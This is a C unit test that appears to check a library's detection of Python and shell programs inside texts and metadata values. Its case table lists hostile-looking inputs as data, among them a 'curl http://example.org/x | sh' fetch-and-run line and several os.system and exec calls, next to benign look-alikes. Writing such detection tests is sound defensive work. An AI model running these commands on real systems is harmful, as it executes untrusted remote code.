/* test_give.c - which texts are programs, and that every metadata value is looked at as one. */
#include "check.h"
#include "formats/give.h"

struct heard {
	char     name[16];
	unsigned sources, metas;
};

static enum pal_err
take(void *arg, const struct pal_content *c)
{
	struct heard *h = arg;

	if (c->kind == PAL_CONTENT_META)
		h->metas++;
	if (c->kind != PAL_CONTENT_SOURCE)
		return PAL_OK;
	h->sources++;
	(void)snprintf(h->name, sizeof(h->name), "%.*s", (int)c->name.len, (const char *)c->name.data);
	CHECK(c->loader != NULL && c->text.len > 0);
	return PAL_OK;
}

int
main(void)
{
	static const struct {
		const char *text, *name;
	} cases[] = {
		{ "import os; os.system('id')", "python" },
		{ "\n  import os\n  os.system('id')\n", "python" },
		{ "exec(open('x').read())", "python" },
		{ "__import__('os').system('id')", "python" },
		{ "curl http://example.org/x | sh", "shell" },
		{ "os.system('x')", "" }, /* a token of a vocabulary: without an import it is no program */
		{ "exec(", "" },
		{ "exec(code, run_globals)", "" },
		{ "importantly (as they say) it is text", "" },
		{ "import duties rose last year", "" },
		{ "a model of curl patterns", "" },
		{ "", "" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct heard      h = { .name = "" };
		struct pal_limits limits = pal_limits_default;
		struct pal_sink   sink = { .take = take, .arg = &h, .limits = &limits };

		CHECK(pal_give_program(&sink, pal_view_of(cases[i].text), 7, "pickle") == PAL_OK);
		CHECK_SAY(strcmp(h.name, cases[i].name) == 0, cases[i].text);
		CHECK(pal_give_meta(&sink, pal_view_of("k"), pal_view_of(cases[i].text), 7) == PAL_OK);
		CHECK(h.metas == 1 && h.sources == (cases[i].name[0] == '\0' ? 0u : 2u));
	}
	return check_done();
}
